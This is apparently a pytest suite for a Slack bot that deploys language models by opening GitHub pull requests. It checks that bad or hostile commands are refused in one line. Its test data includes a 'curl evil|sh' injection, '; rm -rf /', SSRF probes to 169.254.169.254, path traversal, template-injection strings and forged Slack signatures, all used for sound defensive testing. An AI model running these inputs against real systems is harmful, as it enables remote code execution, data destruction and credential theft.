"""Bad inputs: each ends in one clear line for the person who typed, and no traceback anywhere."""

import contextlib
import http.client
import json
import re
import urllib.parse

import pytest

from sandbox.faults import Fault
from sandbox.leadline import running
from sandbox.people import TEAM
from sandbox.worlds import ALICE, BOB, CHANNEL, sandbox
from tests.engine.raw import until
from tests.scenarios.conftest import RATE


@pytest.fixture(scope="module")
def stage(tmp_path_factory):
    """One running Leadline for all refusals: none of them may change anything."""
    folder = tmp_path_factory.mktemp("stage")
    with sandbox(folder, 20.0) as worlds, running(worlds, "serve", "work") as leadline:
        yield worlds, leadline


def answer_to(worlds, text, user=ALICE):
    """Type a command and return the one line that its person is shown."""
    since = len(worlds.journal.entries())
    worlds.type(text, user)
    entry = worlds.journal.wait(lambda e: e.call == "chat.postEphemeral", since)
    assert entry is not None
    return entry.detail["text"]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("deploy qwen3-32b tgi", "'tgi' is not one of 'vllm', 'sglang'"),
        (
            "deploy qwen3-32b sglang --tp 3",
            "64 attention heads of qwen3-32b cannot be divided by 3",
        ),
        ("deploy qwen3-32b sglang ../../.github/workflows/x", "“.” is not allowed"),
        ("deploy qwen3-32 sglang", "did you mean qwen3-32b?"),
        ("deploy qwen3-32b sglang --replicas -1", "replicas -1: must be between 0 and 1000"),
        ("deploy qwen3-32b sglang --replicas 1e9", "'1e9' is not a valid integer"),
        ("deploy qwen3-32b sglang vllm", "would set VLLM"),
        ("deploy qwen3-32b sglang --nodes 3", "make them equal"),
        ('deploy qwen3-32b "sglang; curl evil|sh"', "is not one of"),
        ("deploy {{7*7}} sglang", "model {{7"),
        ('deploy "qwen3-32b sglang', "a quotation mark is not closed"),
        ("depoly qwen3-32b sglang", "did you mean"),
        ("ask", "Missing argument 'NAME'"),
        ("ask nobody hello", "no deployment nobody; try"),
        ("ask http://169.254.169.254/ hi", "no environment http://169.254.169.254; there are: "),
        ("ask nobody@evil hi", "no deployment nobody"),
        ("ask --endpoint http://169.254.169.254/ x hi", "no option --endpoint"),
        ("ask x --endpoint http://169.254.169.254/ hi", "no option --endpoint"),
        ("ask qwen " + "x" * 4_000, "longer than 4000 characters"),
        ("<!channel>", "no verb “&lt;!channel&gt;”"),
        ("", "/llm deploy qwen3-32b sglang"),
        ("x" * 4001, "longer than 4000 characters"),
        ("deploy qwen3-32b sglang --environment prod", "no environment prod"),
        ("deploy qwen3-32b sglang a\u202eb", "RIGHT-TO-LEFT OVERRIDE"),
        ("deploy qwen3-32b sglang m\u043edel", "is not allowed"),
        ("deploy qwen3-32b sglang --replicas \u0663", "is not a valid integer"),
        ("deploy qwen3-32b sglang --memory 24GiB", "expected a quantity"),
        ("deploy qwen3-32b sglang --model-path /models/../../etc", "are not allowed"),
        ("deploy qwen3-32b sglang --image evil.io/x:latest", "latest"),
        ("deploy qwen3-32b sglang --arg --trust-remote-code", "it loads code"),
        ("deploy qwen3-32b sglang --arg --api-key=hunter2", "it carries a secret"),
        ("deploy qwen3-32b sglang --arg '--host=$(LWS_LEADER_ADDRESS)'", "--host"),
        ("deploy qwen3-32b sglang --arg '; rm -rf /'", "; rm -rf /"),
        ("deploy qwen3-32b sglang --dry-run", "no option --dry-run"),
        ("deploy {{cycler.__init__.__globals__}} sglang", "model {{cycler"),
        ("undeploy nobody --confirm nobody", "no deployment nobody"),
    ],
)
def test_a_bad_command_is_answered_with_one_line(stage, text, line):
    worlds, leadline = stage

    said = answer_to(worlds, text)

    assert line in said.replace("\u200b", "")
    assert "\n" not in said or text == ""
    assert "<!" not in said
    assert worlds.github.state()["pulls"] == []
    assert not [log for log in leadline.said if "Traceback" in log]


def test_a_target_that_is_no_deployment_is_never_connected_to(stage):
    worlds, _ = stage
    for target in ("http://169.254.169.254/", "nobody@evil", "169.254.169.254", "evil.example"):
        answer_to(worlds, f"ask {target} hi")

    assert [e for e in worlds.journal.entries() if e.world == "engine"] == []


@pytest.mark.parametrize(
    "words",
    [
        "--oss-ak LTAI5tCanaryCanary --oss-sk canary",
        "--reason 'use ghp_Canary0123456789Canary0123456789'",
        "--env TOKEN=xoxb-1234567890-Canary",
        "canary AKIACANARYCANARY0123",
        "-----BEGIN PRIVATE KEY----- canary",
    ],
)
def test_a_key_in_a_command_is_refused_and_stands_in_no_log_and_no_message(stage, words):
    worlds, leadline = stage

    said = answer_to(worlds, f"deploy qwen3-32b sglang {words}").replace("\u200b", "")

    assert said.startswith("your command holds what looks like a key (")
    assert "Revoke the key" in said
    written = [*leadline.said, *leadline.printed, said, *map(str, worlds.slack.messages(CHANNEL))]
    assert "canary" not in "".join(written).lower()


@pytest.mark.parametrize(
    ("person", "outcome"), [("", "denied"), ("U0NOBODY", "refused"), ("U0CAROL", "done")]
)
def test_who_is_nobody_may_nothing_and_the_audit_log_has_it(stage, person, outcome):
    worlds, leadline = stage
    since = len(leadline.printed)
    fields = {
        "command": "/llm", "text": "list", "user_id": person, "channel_id": CHANNEL,
        "team_id": TEAM.id, "trigger_id": f"1.{person}",
    }  # fmt: skip
    body = urllib.parse.urlencode(fields).encode()
    begun = len(worlds.journal.entries())

    assert post(worlds, body, worlds.slack.signed_headers(body))[0] == 200
    assert worlds.journal.wait(finished, begun)

    def outcomes():
        lines = [line for line in leadline.printed[since:] if line.startswith('{"audit":')]
        return [json.loads(line)["audit"]["outcome"] for line in lines]

    assert until(lambda: outcomes() == [outcome], 5) is not None, outcomes()


@pytest.mark.parametrize(
    "change",
    [
        {"X-Slack-Signature": None},
        {"X-Slack-Signature": "v0=" + "0" * 64},
        {"X-Slack-Signature": "v0=é"},
        {"X-Slack-Signature": "v1=" + "0" * 64},
        {"X-Slack-Request-Timestamp": None},
        {"X-Slack-Request-Timestamp": "abc"},
        {"X-Slack-Request-Timestamp": "1e9"},
        {"X-Slack-Request-Timestamp": ""},
        {"X-Slack-Request-Timestamp": "9" * 5000},
        {"X-Slack-Request-Timestamp": "1"},
    ],
)
def test_a_request_that_slack_did_not_sign_is_refused_before_it_is_read(stage, change):
    worlds, leadline = stage
    body = urllib.parse.urlencode({"command": "/llm", "text": "canary deploy"}).encode()
    headers = worlds.slack.signed_headers(body) | change

    answer = post(worlds, body, {k: v.encode() for k, v in headers.items() if v is not None})

    assert answer == (401, b"not signed by Slack, or too old\n")
    assert not [log for log in leadline.said if "canary" in log]


def test_a_body_that_is_no_text_is_refused(stage):
    worlds, _ = stage
    body = b"\xff\xfe"

    assert post(worlds, body, worlds.slack.signed_headers(body))[0] == 401


def test_a_body_of_megabytes_is_refused(stage):
    worlds, _ = stage
    body = b"x" * 200_000

    assert post(worlds, body, worlds.slack.signed_headers(body))[0] == 413


def post(worlds, body, headers):
    """Send a request as it is; return status and body."""
    connection = http.client.HTTPConnection("127.0.0.1", int(worlds.environment["LEADLINE_PORT"]))
    with contextlib.closing(connection):
        connection.request("POST", "/slack/events", body, headers)
        answer = connection.getresponse()
        return answer.status, answer.read()


def finished(entry):
    return (entry.world, entry.call) == ("leadline", "finished")


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    """All roles, for what becomes a pull request; each test has a deployment of its own."""
    with sandbox(tmp_path_factory.mktemp("whole"), RATE) as worlds, running(worlds) as _:
        yield worlds


def pulls(worlds, name):
    return [p for p in worlds.github.state()["pulls"] if p["head"] == f"llm/example/{name}"]


def about(worlds, name):
    return [m for m in worlds.slack.messages(CHANNEL) if name in str(m)]


def deployed(worlds, name, *options):
    """Ask for a deployment as Alice; return the number of its newest pull request."""
    since = len(worlds.journal.entries())
    worlds.type(" ".join(("deploy qwen3-32b sglang", name, *options)))
    assert worlds.journal.wait(finished, since, 20)
    return pulls(worlds, name)[-1]["number"]


def test_a_reason_that_pings_the_channel_is_shown_and_pings_nobody(whole):
    deployed(whole, "pinging", '--reason "<!channel> @org/team <https://evil|bank>"')

    [pull] = pulls(whole, "pinging")
    assert "“&lt;\\!channel&gt; @\u200borg/team &lt;https://evil\\|bank&gt;”" in pull["body"]
    assert about(whole, "pinging")
    assert not [m for m in whole.slack.messages(CHANNEL) if "<!channel>" in str(m)]


def test_a_pull_request_closed_instead_of_merged_is_told_in_one_line(whole):
    number = deployed(whole, "unwanted")

    whole.close(number)
    told = whole.journal.wait(
        lambda e: f"#{number} was closed without a merge" in str(e.detail.get("text"))
    )

    assert told is not None
    assert whole.journal.wait(
        lambda e: (
            e.call == "chat.update"
            and "unwanted" in e.detail["text"]
            and "closed without" in e.detail["text"]
        )
    )
    assert "default/unwanted" not in whole.cluster.state()["leaderworkersets"]


def test_a_new_request_after_a_close_opens_a_new_pull_request(whole):
    first = deployed(whole, "wanted-again")
    whole.close(first)

    second = deployed(whole, "wanted-again", "--replicas 2")

    states = [(pull["number"], pull["state"]) for pull in pulls(whole, "wanted-again")]
    assert states == [(first, "closed"), (second, "open")]


def test_somebody_elses_request_while_one_is_open_is_refused_with_the_link(whole):
    number = deployed(whole, "taken")

    said = answer_to(whole, "deploy qwen3-32b sglang taken --replicas 2", BOB)

    assert f"pull request #{number} of this deployment" in said
    assert f"is still open and <@{ALICE}> holds it" in said
    assert f"/acme/gitops/pull/{number}" in said
    assert len(pulls(whole, "taken")) == 1


def test_the_requesters_other_request_amends_and_the_thread_says_that_approvals_lapse(whole):
    deployed(whole, "amended")

    deployed(whole, "amended", "--replicas 2")

    [pull] = pulls(whole, "amended")
    assert '"requester": "slack:U0ALICE"' in pull["body"]
    [card] = [m for m in about(whole, "amended") if m["thread_ts"] in {None, m["ts"]}]
    thread = [m for m in whole.slack.messages(CHANNEL) if m["thread_ts"] == card["ts"]]
    lapse = [reply for reply in thread if "Approvals from before no longer count" in reply["text"]]
    assert len(lapse) == 1


def test_an_engine_that_is_down_is_said_in_one_line_and_no_question_is_posted(whole):
    whole.merge(deployed(whole, "down"))

    said = answer_to(whole, "ask down hello")

    assert "down" in said
    assert re.search(r"does not answer yet: |: no answer", said)
    roots = [m for m in whole.slack.messages(CHANNEL) if m["thread_ts"] in {None, m["ts"]}]
    assert len([m for m in roots if m["text"].startswith("down · ")]) == 1  # the card
    assert not [m for m in roots if "hello" in str(m)]


def test_github_being_away_is_said_in_one_line(whole):
    away = Fault("github", ".*", "before", "drop", times=1000)
    whole.faults.arm(away)
    try:
        said = answer_to(whole, "deploy qwen3-32b sglang unreached")
    finally:
        away.times = 0

    assert "on GitHub: no answer" in said
    assert about(whole, "unreached") == []
